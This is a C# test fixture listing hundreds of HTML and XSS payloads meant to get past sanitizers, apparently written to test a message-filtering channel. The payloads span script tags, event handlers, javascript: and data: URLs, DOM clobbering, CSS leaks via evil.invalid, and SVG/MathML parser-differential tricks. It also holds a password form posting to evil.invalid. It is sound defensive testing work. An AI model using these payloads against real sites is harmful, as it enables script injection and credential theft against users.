namespace Prazo.Tests.Channels;

/// <summary>Hostile messages, one a line, of the classes that are known to get past filters. Each calls <c>hit()</c> where its script would run, or asks
/// <c>evil.invalid</c> for something. {TAB} and the like stand for characters that an editor would not keep.</summary>
public static class Attacks
{
    public static IReadOnlyList<string> All { get; } = [.. Lines.Split('\n', StringSplitOptions.RemoveEmptyEntries).Where(l => !l.StartsWith("## ", StringComparison.Ordinal)).Select(Unfold)];

    private static string Unfold(string line) => line
        .Replace("{TAB}", "\t", StringComparison.Ordinal).Replace("{LF}", "\n", StringComparison.Ordinal).Replace("{CR}", "\r", StringComparison.Ordinal)
        .Replace("{NUL}", "\0", StringComparison.Ordinal).Replace("{FF}", "\f", StringComparison.Ordinal).Replace("{VT}", "\v", StringComparison.Ordinal)
        .Replace("{x01}", "\u0001", StringComparison.Ordinal).Replace("{x1f}", "\u001f", StringComparison.Ordinal).Replace("{NBSP}", "\u00a0", StringComparison.Ordinal)
        .Replace("{LS}", "\u2028", StringComparison.Ordinal).Replace("{ZWSP}", "\u200b", StringComparison.Ordinal).Replace("{RLO}", "\u202e", StringComparison.Ordinal)
        .Replace("{BOM}", "\ufeff", StringComparison.Ordinal).Replace("{IDSP}", "\u3000", StringComparison.Ordinal).Replace("{MANY}", new string('x', 3000), StringComparison.Ordinal);

    private const string Lines = """
        ## scripts
        <script>hit()</script>
        <SCRIPT>hit()</SCRIPT>
        <ScRiPt >hit()</sCrIpT >
        <script src=https://evil.invalid/1.js></script>
        <script src=//evil.invalid/2.js></script>
        <script/src="https://evil.invalid/3.js"></script>
        <script type="module">hit()</script>
        <script{LF}>hit()</script>
        <script{FF}>hit()</script>
        <script{TAB}type="text/javascript">hit();</script{TAB}>
        <script>hit()//</script
        <script>hit()<!--</script>
        <scr<script>ipt>hit()</scr</script>ipt>
        <<script>hit();//<</script>
        <script<b>hit()</b></script>
        <script/xss>hit()</script/xss>
        <{NUL}script>hit()</script>
        <scr{NUL}ipt>hit()</scr{NUL}ipt>
        <script x>hit()</script x>
        </title><script>hit()</script>
        </textarea><script>hit()</script>
        </style><script>hit()</script>
        --><script>hit()</script>
        ]]><script>hit()</script>
        "><script>hit()</script>
        '><script>hit()</script>
        `><script>hit()</script>
        <!--><script>hit()</script>-->
        <!---><script>hit()</script>-->
        <!-- --!><script>hit()</script>-->
        <!--[if gte IE 4]><script>hit()</script><![endif]-->
        <!--[if !mso]><!--><script>hit()</script><!--<![endif]-->
        <![CDATA[<script>hit()</script>]]>
        <?xml version="1.0"?><script>hit()</script>
        <!DOCTYPE html [<!ENTITY x "<script>hit()</script>">]>&x;
        <% script %><script>hit()</script>
        +ADw-script+AD4-hit()+ADw-/script+AD4-
        <meta charset="utf-7">+ADw-script+AD4-hit()+ADw-/script+AD4-
        %3Cscript%3Ehit()%3C/script%3E
        &lt;script&gt;hit()&lt;/script&gt;
        &amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;
        &#60;script&#62;hit()&#60;/script&#62;
        ＜script＞hit()＜/script＞
        ¼script¾hit()¼/script¾
        ## event handlers
        <img src=x onerror=hit()>
        <img src=x onerror="hit()">
        <img src=x onerror='hit()'>
        <img src=x onerror=`hit()`>
        <img/src=x/onerror=hit()>
        <img src=x{FF}onerror=hit()>
        <img src=x{LF}onerror{LF}={LF}hit()>
        <img src=x oNeRrOr=hit()>
        <img src=x onerror=hit`1`>
        <img src=x onerror=&#104;it()>
        <img src=x onerror="&#x68;&#x69;&#x74;&#x28;&#x29;">
        <img src=x onerror=window['hi'+'t']()>
        <img src=x onerror=eval(atob('aGl0KCk='))>
        <img src=x:x onerror=hit() //
        <img src=x onerror=hit() <p>text
        <img """><script>hit()</script>">
        <img src="x" alt="`` onerror=hit()">
        <img src='x' alt='" onerror="hit()'>
        <img src=x title="><img src=x onerror=hit()>">
        <img src=x alt="&quot; onerror=&quot;hit()">
        <img src=x alt="&#34;&#62;&#60;img src=x onerror=hit()&#62;">
        <img src="cid:x&quot; onerror=&quot;hit()">
        <img src="cid:a' onerror='hit()" alt="pic">
        <img src="https://evil.invalid/4.png&quot; onerror=&quot;hit()" alt=a>
        <image src=x onerror=hit()>
        <image href=x onerror=hit()>
        <img src=x onload=hit() onloadstart=hit() onerror=hit()>
        <body onload=hit()>
        <body onpageshow=hit()>
        <body background="https://evil.invalid/5.png" onscroll=hit()>
        <html onmouseover=hit()><body onfocus=hit() tabindex=1>
        <p onmouseover=hit() style="position:fixed;inset:0">x</p>
        <div onpointerrawupdate=hit() style=position:fixed;top:0;left:0;width:100%;height:100%>x</div>
        <a onclick=hit() href="https://example.com/">x</a>
        <a onmouseenter=hit()>x</a>
        <a href=# onfocus=hit() autofocus tabindex=0>x</a>
        <b onbeforematch=hit() hidden=until-found>x</b>
        <details open ontoggle=hit()>x</details>
        <details open onfocusin=hit()><summary tabindex=0 autofocus>x</summary></details>
        <marquee onstart=hit()>x</marquee>
        <marquee loop=1 width=0 onfinish=hit()>x</marquee>
        <blink onmouseover=hit()>x</blink>
        <input autofocus onfocus=hit()>
        <input type=image src=x onerror=hit()>
        <select autofocus onfocus=hit()><option>x</select>
        <textarea autofocus onfocus=hit()>x</textarea>
        <keygen autofocus onfocus=hit()>
        <button autofocus onfocus=hit()>x</button>
        <video onerror=hit()><source src=x></video>
        <video src=x onerror=hit() autoplay></video>
        <video poster=https://evil.invalid/6.png></video>
        <audio src=x onerror=hit()></audio>
        <audio src=https://evil.invalid/7.mp3 autoplay oncanplay=hit()></audio>
        <track src=https://evil.invalid/8.vtt onload=hit()>
        <isindex type=image src=x onerror=hit()>
        <style onload=hit()>p{}</style>
        <link rel=stylesheet href=https://evil.invalid/9.css onload=hit() onerror=hit()>
        <div style="animation-name:x" onanimationstart=hit()><style>@keyframes x{}</style></div>
        <p style="transition:color 1s" ontransitionend=hit()>x</p>
        <x onclick=hit() contenteditable onfocus=hit() autofocus tabindex=1>x</x>
        <custom-element onclick=hit() onload=hit()>x</custom-element>
        <xss id=x tabindex=1 onactivate=hit() onfocusin=hit() autofocus>x</xss>
        <div oncontentvisibilityautostatechange=hit() style=display:block;content-visibility:auto>x</div>
        <p popover ontoggle=hit() onbeforetoggle=hit()>x</p><button popovertarget=p>x</button>
        ## addresses that run
        <a href="javascript:hit()">x</a>
        <a href="JaVaScRiPt:hit()">x</a>
        <a href=" javascript:hit()">x</a>
        <a href="{TAB}javascript:hit()">x</a>
        <a href="java{TAB}script:hit()">x</a>
        <a href="java{LF}script:hit()">x</a>
        <a href="java{CR}{LF}script:hit()">x</a>
        <a href="java{NUL}script:hit()">x</a>
        <a href="{x01}javascript:hit()">x</a>
        <a href="{x1f}javascript:hit()">x</a>
        <a href="java&#115;cript:hit()">x</a>
        <a href="java&#x73;cript:hit()">x</a>
        <a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58hit()">x</a>
        <a href="&#0000106avascript:hit()">x</a>
        <a href="&#x6Aavascript&colon;hit()">x</a>
        <a href="javascript&#58;hit()">x</a>
        <a href="jav&Tab;ascript:hit()">x</a>
        <a href="jav&NewLine;ascript&colon;hit&lpar;&rpar;">x</a>
        <a href="&#1;javascript:hit()">x</a>
        <a href="&#14;  javascript:hit()">x</a>
        <a href="javascript:%68it()">x</a>
        <a href="javascript://example.com/%0ahit()">x</a>
        <a href="javascript:'\x3csvg onload=hit()\x3e'">x</a>
        <a href="{NBSP}javascript:hit()">x</a>
        <a href="{BOM}javascript:hit()">x</a>
        <a href="{IDSP}javascript:hit()">x</a>
        <a href="{LS}javascript:hit()">x</a>
        <a href="java{ZWSP}script:hit()">x</a>
        <a href="vbscript:hit()">x</a>
        <a href="livescript:hit()">x</a>
        <a href="data:text/html,<script>hit()</script>">x</a>
        <a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">x</a>
        <a href="DATA:text/html;charset=utf-8,<script>hit()</script>">x</a>
        <a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>">x</a>
        <a href="blob:https://example.com/x">x</a>
        <a href="filesystem:https://example.com/x">x</a>
        <a href="file:///etc/passwd">x</a>
        <a href="intent://evil.invalid/#Intent;scheme=https;end">x</a>
        <a href="ms-settings:privacy">x</a>
        <a href="view-source:javascript:hit()">x</a>
        <a href="feed:javascript:hit()">x</a>
        <a href="jar:https://evil.invalid/x!/y">x</a>
        <a href="http:javascript:hit()">x</a>
        <a href="https:evil.invalid">x</a>
        <a href="\\evil.invalid\x">x</a>
        <a href="//evil.invalid/x">x</a>
        <a href="https://bank.example@evil.invalid/">x</a>
        <a href="https://example.com/&quot; onclick=&quot;hit()">x</a>
        <a href="https://example.com/' onclick='hit()">x</a>
        <a href="mailto:a@b.example?subject=&quot;><script>hit()</script>">x</a>
        <a href="tel:+55&quot; onclick=&quot;hit()">x</a>
        <a href="https://example.com/{RLO}gpj.exe">x</a>
        <a href="https://example.com/" target="_self" ping="https://evil.invalid/10" download rel="opener">x</a>
        <a xlink:href="javascript:hit()">x</a>
        <a href=javascript:hit() href=https://example.com/>x</a>
        <area shape=default coords=0,0,9,9 href=javascript:hit()>
        <map name=m><area href=javascript:hit()></map><img usemap=#m src=x>
        <img src="javascript:hit()">
        <img src="JAVASCRIPT:hit()" lowsrc="javascript:hit()" dynsrc="javascript:hit()">
        <img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KCkiLz4=">
        <img srcset="https://evil.invalid/11.png 1x, https://evil.invalid/12.png 2x" src="https://evil.invalid/13.png">
        <picture><source srcset=https://evil.invalid/14.png><img src=https://evil.invalid/15.png></picture>
        <blockquote cite="javascript:hit()">x</blockquote>
        <q cite="javascript:hit()">x</q><del cite="javascript:hit()">x</del><ins cite="javascript:hit()">x</ins>
        <table background="https://evil.invalid/16.png"><tr><td background="javascript:hit()">x</table>
        <bgsound src="javascript:hit()">
        <br size="&{hit()}">
        ## frames, plugins, documents
        <iframe src="javascript:hit()"></iframe>
        <iframe src="https://evil.invalid/17"></iframe>
        <iframe srcdoc="<script>parent.hit()</script>"></iframe>
        <iframe srcdoc="&lt;img src=x onerror=parent.hit()&gt;"></iframe>
        <iframe/src="data:text/html,<script>parent.hit()</script>"></iframe>
        <iframe onload=hit()></iframe>
        <frameset onload=hit()><frame src="javascript:parent.hit()"></frameset>
        <frameset><frame src="https://evil.invalid/18"></frameset>
        <fencedframe src="https://evil.invalid/19"></fencedframe>
        <portal src="https://evil.invalid/20" onload=hit()></portal>
        <object data="javascript:hit()"></object>
        <object data="data:text/html,<script>parent.hit()</script>"></object>
        <object data="https://evil.invalid/21"><param name=url value=javascript:hit()></object>
        <object onerror=hit() data=x></object>
        <object type="text/x-scriptlet" data="https://evil.invalid/22"></object>
        <embed src="javascript:hit()">
        <embed src="https://evil.invalid/23.swf" allowscriptaccess=always>
        <embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.hit()'/>">
        <applet code="hit" archive="https://evil.invalid/24.jar"></applet>
        <base href="javascript:hit()//"><a href="x">x</a>
        <base href="https://evil.invalid/25/"><img src=26.png><a href=x>x</a>
        <base target="_top"><a href="https://example.com/">x</a>
        <meta http-equiv="refresh" content="0;url=javascript:hit()">
        <meta http-equiv="refresh" content="0;url=https://evil.invalid/27">
        <meta http-equiv=refresh content="0;url=data:text/html,<script>hit()</script>">
        <meta http-equiv="Set-Cookie" content="a=b">
        <meta http-equiv="Content-Security-Policy" content="script-src *">
        <meta name="referrer" content="unsafe-url">
        <link rel="prefetch" href="https://evil.invalid/28"><link rel="dns-prefetch" href="//evil.invalid">
        <link rel="import" href="https://evil.invalid/29"><link rel="manifest" href="https://evil.invalid/30">
        <link rel="icon" href="https://evil.invalid/31"><link rel=modulepreload href=https://evil.invalid/32>
        <head profile="https://evil.invalid/33"><title><script>hit()</script></title></head>
        ## forms
        <form action="javascript:hit()"><input type=submit autofocus></form>
        <form action="https://evil.invalid/34"><input name=password type=password><button>Sign in</button></form>
        <form><button formaction="javascript:hit()">x</button></form>
        <form id=f></form><button form=f formaction="javascript:hit()">x</button>
        <form><input type=image formaction=javascript:hit() src=https://evil.invalid/35.png></form>
        <isindex action="javascript:hit()" type=submit>
        <form><input name=attributes><input name=parentNode><input name=removeChild></form>
        <form name=body onclick=hit()><input name=innerHTML></form>
        <dialog open onclose=hit()><form method=dialog><button autofocus>x</button></form></dialog>
        ## names that clobber
        <a id=hit href="https://evil.invalid/36">x</a>
        <img name=getElementById><img name=cookie><img id=currentScript>
        <form id=document><input id=body></form><a id=window name=location href=https://evil.invalid/37>x</a>
        <a id=config><a id=config name=url href="https://evil.invalid/38">x</a>
        <p class="btn btn-danger modal show" id=app data-controller="evil" data-turbo-frame=x>x</p>
        <turbo-stream action=append target=body><template><script>hit()</script></template></turbo-stream>
        <slot name=x></slot><p slot=x is=evil-element part=y>x</p>
        ## styles
        <style>@import url(https://evil.invalid/39.css);</style>
        <style>body{background:url(https://evil.invalid/40.png)}</style>
        <style>p{behavior:url(https://evil.invalid/41.htc)}</style>
        <style>@font-face{font-family:x;src:url(https://evil.invalid/42.woff)}*{font-family:x}</style>
        <style>*{color:red}</style><p style="color:expression(hit())">x</p>
        <style>input[value^=a]{background:url(https://evil.invalid/43)}</style>
        <style></style><img src=x onerror=hit()></style>
        <style><!--</style><img src=x onerror=hit()>--></style>
        <style><img title="</style><img src=x onerror=hit()>"></style>
        <p style="background:url(https://evil.invalid/44.png)">x</p>
        <p style="background-image:u\72l(https://evil.invalid/45.png)">x</p>
        <p style="background:url('javascript:hit()')">x</p>
        <p style="list-style:url(https://evil.invalid/46.png)">x</p>
        <p style="content:url(https://evil.invalid/47.png);cursor:url(https://evil.invalid/48.cur),auto">x</p>
        <p style="width:expression(hit())">x</p>
        <p style="width:exp/**/ression(hit())">x</p>
        <p style="width:\65xpression(hit())">x</p>
        <p style="-moz-binding:url(https://evil.invalid/49.xml#x)">x</p>
        <p style="behavior:url(#default#time2)" onbegin=hit()>x</p>
        <p style='font-weight:bold";onclick="hit()'>x</p>
        <p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">cover</p>
        <p style="font-family:'</style><script>hit()</script>'">x</p>
        <p style="--x:url(https://evil.invalid/50);background:var(--x)">x</p>
        <p style="background:image-set('https://evil.invalid/51.png' 1x)">x</p>
        <p style="mask:url(https://evil.invalid/52.svg);filter:url(https://evil.invalid/53.svg#f)">x</p>
        <font color="red" style="background:url(https://evil.invalid/54)" face="x" onclick=hit()>x</font>
        ## SVG and MathML
        <svg onload=hit()>
        <svg/onload=hit()>
        <svg><script>hit()</script></svg>
        <svg><script>&#104;it()</script></svg>
        <svg><script href="https://evil.invalid/55.js"/></svg>
        <svg><script xlink:href="data:text/javascript,hit()"/></svg>
        <svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>
        <svg><a><animate attributeName=href values=javascript:hit() /><text y=20>x</text></a></svg>
        <svg><animate onbegin=hit() attributeName=x dur=1s>
        <svg><set attributeName=onload to=hit() /></svg>
        <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='hit()'/></svg>#x"/></svg>
        <svg><image href=https://evil.invalid/56.png onerror=hit() /></svg>
        <svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>
        <svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>
        <svg><desc><img src=x onerror=hit()></desc></svg>
        <svg><title><img src=x onerror=hit()></title></svg>
        <svg><style><img src=x onerror=hit()></style></svg>
        <svg><style>&lt;/style&gt;&lt;img src=x onerror=hit()&gt;</style></svg>
        <svg></p><style><a id="</style><img src=x onerror=hit()>">
        <svg><p><style><!--</style><img src=x onerror=hit()>-->
        <svg><discard onbegin=hit()>
        <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit()</handler></svg>
        <svg><feImage href="https://evil.invalid/57.png" /></svg>
        <math><a href="javascript:hit()">x</a></math>
        <math href="javascript:hit()">x</math>
        <math><mi xlink:href="javascript:hit()">x</mi></math>
        <math><maction actiontype="statusline#https://evil.invalid" xlink:href="javascript:hit()">x</maction></math>
        <math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>
        <math><annotation-xml encoding="text/html"><svg onload=hit()></annotation-xml></math>
        <math><mtext><img src=x onerror=hit()></mtext></math>
        ## what one parser nests and the next does not
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">
        <form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>
        <math><mtext><table><mglyph><style><math><img src=x onerror=hit()></style></math>
        <svg><mtext><table><mglyph><style><img src=x onerror=hit()>
        <math><mi><table><mglyph><svg><mtext><style><a title="</style><img src=x onerror=hit()>">
        <noscript><p title="</noscript><img src=x onerror=hit()>">
        <noscript><img src=x onerror=hit()></noscript>
        <noembed><img title="</noembed><img src=x onerror=hit()>"></noembed>
        <noframes><img title="</noframes><img src=x onerror=hit()>"></noframes>
        <template><script>hit()</script><img src=x onerror=hit()></template>
        <template shadowrootmode=open><img src=x onerror=hit()></template>
        <template><style></template><img src=x onerror=hit()></style></template>
        <title><img src=x onerror=hit()></title>
        <title><p title="</title><img src=x onerror=hit()>"></title>
        <textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>
        <xmp><img title="</xmp><img src=x onerror=hit()>"></xmp>
        <xmp><p title="</xmp><svg/onload=hit()>">
        <listing>&lt;img src=x onerror=hit()&gt;</listing>
        <pre>{LF}{LF}&lt;img src=x onerror=hit()&gt;</pre>
        <iframe><img title="</iframe><img src=x onerror=hit()>"></iframe>
        <plaintext><img src=x onerror=hit()>
        <select><iframe><script>hit()</script></iframe><style></select><img src=x onerror=hit()></style>
        <select><template><img src=x onerror=hit()></template></select>
        <option><style></option></select><img src=x onerror=hit()></style>
        <table><td><img src=x onerror=hit()></table>
        <table><script>hit()</script><tr><td>x</table>
        <table><tr><td><table><caption><form><img src=x onerror=hit()></table></table>
        <table><a href="javascript:hit()"><tr><td>x</a></table>
        <table><tbody><svg><tr><td><img src=x onerror=hit()></table>
        <b><p><b><p onclick=hit()><b><img src=x onerror=hit()></b></p>
        <a><table><a href=javascript:hit()>x
        <li><dd><td><tr><option><li onclick=hit()>x</li></div></div></body></html><img src=x onerror=hit()>
        </div></div></div></td></tr></table></p></body></html><script>hit()</script>
        <p><!-- <p title="--><img src=x onerror=hit()>">
        <!-- <img title="--><img src=x onerror=hit()>">
        <p title="<!--"><img src=x onerror=hit()><p title="-->">
        <a title="{MANY}" href="javascript:hit()//{MANY}">x</a>
        <img src=x {MANY}=1 onerror=hit()>
        <a href="https://example.com/"><a href="javascript:hit()">x</a></a>
        <nobr><svg><nobr><style><img src=x onerror=hit()></style></nobr></svg></nobr>
        <ruby><rt><svg><style></rt><img src=x onerror=hit()></style></ruby>
        <body><template><s><template><s><img src=x onerror=hit()>@</s>@</template></s></template>
        <div id="x" a="<style>" b="</style><img src=x onerror=hit()>">x</div>
        <p lang="en&quot; onclick=&quot;hit()" dir="rtl' onclick='hit()" align="left onclick=hit()">x</p>
        <td colspan="2 onclick=hit()"><table><tr><td colspan="99999999999" rowspan=-1 onclick=hit()>x</table>
        <abbr title="&quot;&gt;&lt;img src=x onerror=hit()&gt;">x</abbr>
        <abbr title='`onclick=hit()`'>x</abbr>
        """;
}
